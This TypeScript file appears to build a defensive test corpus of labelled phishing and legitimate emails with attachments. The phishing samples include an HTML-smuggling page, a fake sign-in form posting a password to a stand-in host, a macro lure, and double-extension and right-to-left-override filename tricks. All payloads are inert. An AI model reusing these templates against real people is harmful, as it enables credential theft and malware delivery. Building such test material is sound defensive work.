/** Pages, archives, macros and PDF files that hang on a mail. */
import { encryptedZip, htmlFile, pdfFile, wordFile, zipFile } from '../../scripts/corpus/file.ts'
import type { Family } from '../../scripts/corpus/spec.ts'
import { ham, phish } from './kit.ts'

/** The shape of smuggling (a script that makes a file of a string); what it would make is this sentence. */
const smuggled = Buffer.from('This is a harmless sample written for a test. It does nothing.').toString('base64')
const smuggling = `<!DOCTYPE html>
<html><head><title>voicemail</title>
<script>
// Sample only: nothing calls this function, and the text below is one harmless sentence.
function open_message() {
  var data = atob("${smuggled}");
  var bytes = new Uint8Array(data.length);
  for (var i = 0; i < data.length; i++) bytes[i] = data.charCodeAt(i);
  var blob = new Blob([bytes], { type: "application/octet-stream" });
  var link = document.createElement("a");
  link.href = window.URL.createObjectURL(blob);
  link.download = "Voice_Message.txt";
  link.click();
}
</script></head>
<body><p>Loading voice message...</p></body></html>
`

const passwordPage = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Microsoft</title></head>
<body><h2>サインイン</h2>
<form action="https://miwake-sample-52.invalid/post.php" method="post">
<input type="email" name="login" value="taro@example.jp" readonly><br>
<input type="password" name="passwd" placeholder="パスワード"><br>
<input type="submit" value="サインイン">
</form></body></html>
`

export const attachment: readonly Family[] = [
  {
    family: 'html-attachment',
    shows: 'A page as attachment: smuggling, a password form, and a harmless report.',
    mails: [
      phish('html-smuggling-bad', 'en', 'The page would build a file out of a string (here without any effect).', {
        symbols: ['ATTACHMENT_HTML', 'ATTACHMENT_SMUGGLING'],
        from: 'Voicemail Service <voice@miwake-sample-53.example>',
        subject: 'New voice message (00:47) for hanako@example.com',
        date: '2025-04-02 09:31 +0000',
        auth: 'none',
        hop: 'unknown 203.0.113.64',
        form: 'text',
        charset: 'us-ascii',
        files: [htmlFile('Voice_Message_0047.html', smuggling)],
        body: `
You have received a new voice message from +1 (555) 0100.

Duration: 00:47
Open the attached file to listen. You may be asked to sign in with your Microsoft 365 account.`,
      }),
      ham('html-attachment-honest', 'en', 'A colleague attaches a test report, without script or form.', {
        symbols: ['ATTACHMENT_HTML'],
        from: 'Noor Haddad <noor@example.com>',
        subject: 'Coverage report for this week',
        date: '2026-04-10 15:02 +0000',
        auth: 'pass',
        form: 'text',
        charset: 'us-ascii',
        files: [
          htmlFile(
            'coverage.html',
            '<!DOCTYPE html>\n<html><head><title>Coverage</title></head><body><h1>Coverage</h1><table><tr><th>Module</th><th>Lines</th></tr><tr><td>billing</td><td>91 %</td></tr><tr><td>mail</td><td>88 %</td></tr></table></body></html>\n',
          ),
        ],
        body: `
Hi Hanako,

The report you asked for is attached; open it in a browser. Billing is up to 91 percent.

Noor`,
      }),
      phish('html-form-bad', 'ja', "The attached page is a false sign-in with the reader's address filled in.", {
        symbols: ['ATTACHMENT_HTML', 'PASSWORD_FIELD'],
        from: '経理部 <keiri@miwake-sample-52.example>',
        subject: '【至急】支払通知書のご確認',
        date: '2025-08-28 10:04 +0900',
        auth: 'none',
        hop: 'unknown 203.0.113.65',
        form: 'text',
        files: [{ ...htmlFile('支払通知書_202508.htm', passwordPage), nameForm: 'encoded-word' }],
        body: `
ご担当者様

添付の支払通知書をご確認ください。ファイルを開き、会社のメールアドレスのパスワードを入力すると内容が表示されます。

本日中にご確認がない場合、お支払いは翌月となります。

経理部`,
      }),
    ],
  },
  {
    family: 'archive',
    shows:
      'An encrypted ZIP with the password in a second mail is an old Japanese business habit; a macro or a program in a mail is not.',
    mails: [
      phish(
        'macro-bad',
        'ja',
        'An "invoice" that is a Word file with macros, from a stranger who pretends a conversation.',
        {
          symbols: ['ATTACHMENT_MACRO', 'FILE_DEMANDED'],
          from: '株式会社ミホン物流 請求担当 <seikyu@miwake-sample-54.test>',
          subject: '請求書送付のお願い 202203',
          date: '2022-03-03 09:30 +0900',
          auth: 'none',
          hop: 'unknown 203.0.113.67',
          form: 'text',
          charset: 'iso-2022-jp',
          files: [
            {
              ...wordFile('請求書_20220303.docm', '内容を表示するには「コンテンツの有効化」を押してください。', true),
              nameForm: 'encoded-word',
            },
          ],
          body: `
お世話になっております。

3月分の請求書をお送りします。ご確認のほどよろしくお願いいたします。
内容が表示されない場合は、「編集を有効にする」「コンテンツの有効化」をクリックしてください。`,
        },
      ),
      ham('ppap-honest', 'ja', 'A partner sends an encrypted ZIP; known thread, authenticated, the password follows.', {
        symbols: ['ATTACHMENT_ENCRYPTED_ZIP'],
        from: '小林（ミドリ商事） <kobayashi@midori-shoji.example.co.jp>',
        subject: '見積書の送付（10月ご発注分）',
        date: '2026-09-30 11:12 +0900',
        auth: 'pass',
        form: 'text',
        charset: 'iso-2022-jp',
        header: [['In-Reply-To', '<20260929-taro-11@example.jp>']],
        files: [
          {
            ...encryptedZip('mitsumori_202610.zip', 'mitsumori_202610.txt', 'sample', 'harmless'),
            nameForm: 'encoded-word',
          },
        ],
        body: `
山田様

いつもお世話になっております。ミドリ商事の小林です。
10月ご発注分の見積書を、暗号化ZIPで添付します。パスワードは、別のメールでお送りします。

ご不明な点がありましたら、お電話ください（000-000-3141）。`,
      }),
      ham('ppap-password-honest', 'ja', 'The second mail, with nothing but the password.', {
        from: '小林（ミドリ商事） <kobayashi@midori-shoji.example.co.jp>',
        subject: '【パスワード】見積書の送付（10月ご発注分）',
        date: '2026-09-30 11:13 +0900',
        auth: 'pass',
        form: 'text',
        charset: 'iso-2022-jp',
        header: [['Auto-Submitted', 'auto-generated']],
        body: `
山田様

先ほどお送りしたファイルのパスワードをお知らせします。

ファイル名：mitsumori_202610.zip
パスワード：harmless

※このメールはシステムから自動で送信しています。`,
      }),
      phish('double-suffix-bad', 'en', 'A program in a ZIP with a name that ends in .pdf.exe (the content is text).', {
        symbols: ['ATTACHMENT_EXECUTABLE', 'ATTACHMENT_NAME_TRICK', 'PARCEL'],
        from: 'DHL Express <invoice@miwake-sample-55.top>',
        subject: 'DHL shipment 8840 1172: customs documents attached',
        date: '2024-10-01 06:06 +0000',
        auth: 'pass',
        hop: 'unknown 203.0.113.68',
        form: 'text',
        charset: 'us-ascii',
        files: [zipFile('DHL_Customs_88401172.zip', { 'DHL_Customs_88401172.pdf.exe': 'harmless text, no program\n' })],
        body: `
Dear customer,

Your shipment has arrived at the customs office. Please find the shipping documents attached, fill in the form and pay the duty today, otherwise storage fees apply.

Archive password is not required.

DHL Express`,
      }),
      phish(
        'reversed-name-bad',
        'ja',
        'A name that reads backwards (U+202E): shown as …exe.pdf, it ends in .exe (the content is text).',
        {
          symbols: ['ATTACHMENT_NAME_TRICK', 'ATTACHMENT_EXECUTABLE'],
          from: '株式会社ミホン人材 <oubo@miwake-sample-49.example>',
          subject: '履歴書の送付（営業職応募）',
          date: '2024-03-11 08:44 +0900',
          auth: 'none',
          hop: 'unknown 203.0.113.55',
          form: 'text',
          files: [
            {
              name: '履歴書_\u202efdp.exe',
              type: 'application/octet-stream',
              bytes: new TextEncoder().encode('harmless text, no program\n'),
            },
          ],
          body: `
採用ご担当者様

貴社の求人を拝見し、応募いたします。履歴書を添付いたしますので、至急ご確認をお願い申し上げます。`,
        },
      ),
      ham('zip-honest', 'en', 'Photographs of a party in a ZIP.', {
        symbols: ['ATTACHMENT_ARCHIVE'],
        from: 'Rosa Lindqvist <rosa@lindqvist.example>',
        subject: 'photos from lunch',
        date: '2025-11-12 21:14 +0100',
        auth: 'pass',
        form: 'text',
        charset: 'us-ascii',
        files: [zipFile('lunch.zip', { 'lunch/one.txt': 'picture one\n', 'lunch/two.txt': 'picture two\n' })],
        body: `
Hi Hanako,

It was lovely to see you! The photos are in the attached file; the one with the pigeon is my favourite.

Rosa`,
      }),
    ],
  },
  {
    family: 'pdf',
    shows: 'The link is inside a PDF.',
    mails: [
      phish('pdf-bad', 'en', 'A PDF with a foreign link, nothing in the text; DocuSign named.', {
        symbols: ['ATTACHMENT_PDF', 'BRAND_IMPERSONATED'],
        actions: ['junk', 'review'],
        from: 'Accounts via DocuSign <docs@miwake-sample-56.shop>',
        subject: 'Remittance advice 10-2025.pdf',
        date: '2025-10-29 13:47 +0000',
        auth: 'pass',
        hop: 'unknown 203.0.113.69',
        form: 'text',
        charset: 'us-ascii',
        files: [
          pdfFile(
            'Remittance_10-2025.pdf',
            ['This document is protected by DocuSign.', 'Sign in with your work e-mail to view: VIEW DOCUMENT'],
            'https://docusign-view.miwake-sample-56.shop/auth',
          ),
        ],
        body: `
Please see the attached remittance advice. The document is protected; use your email and password to view it.`,
      }),
      ham('pdf-honest', 'en', 'An invoice as PDF from a known firm, with a link to its own site.', {
        symbols: ['ATTACHMENT_PDF'],
        from: 'Larkfield Hosting Billing <billing@larkfield.example>',
        subject: 'Invoice LF-20533',
        date: '2025-12-01 07:00 +0000',
        auth: 'pass',
        form: 'text',
        charset: 'us-ascii',
        files: [
          pdfFile(
            'LF-20533.pdf',
            [
              'Larkfield Hosting',
              'Invoice LF-20533',
              'Virtual server rowan, December: GBP 14.40',
              'Paid by card ending 4421. Thank you.',
            ],
            'https://my.larkfield.example/invoices/LF-20533',
          ),
        ],
        body: `
Hello Hanako,

Your invoice for December is attached. It was paid by the card ending 4421, so there is nothing to do.

Larkfield Hosting`,
      }),
      ham('pdf-ja-honest', 'ja', 'A school sends its letter as PDF.', {
        symbols: ['ATTACHMENT_PDF'],
        from: '緑野小学校 <jimu@midorino-e.example.ed.jp>',
        subject: '【緑野小】学校だより 10月号',
        date: '2026-10-01 15:30 +0900',
        auth: 'pass',
        form: 'text',
        charset: 'iso-2022-jp',
        files: [
          {
            ...pdfFile('学校だより10月号.pdf', ['Gakko dayori, October', 'School letter (sample)']),
            nameForm: 'encoded-word',
          },
        ],
        body: `
保護者の皆様

学校だより10月号をお送りします。19日（月）から個人面談が始まります。希望日の用紙は、9日までに担任へお渡しください。

緑野小学校 教頭 大西`,
      }),
    ],
  },
]
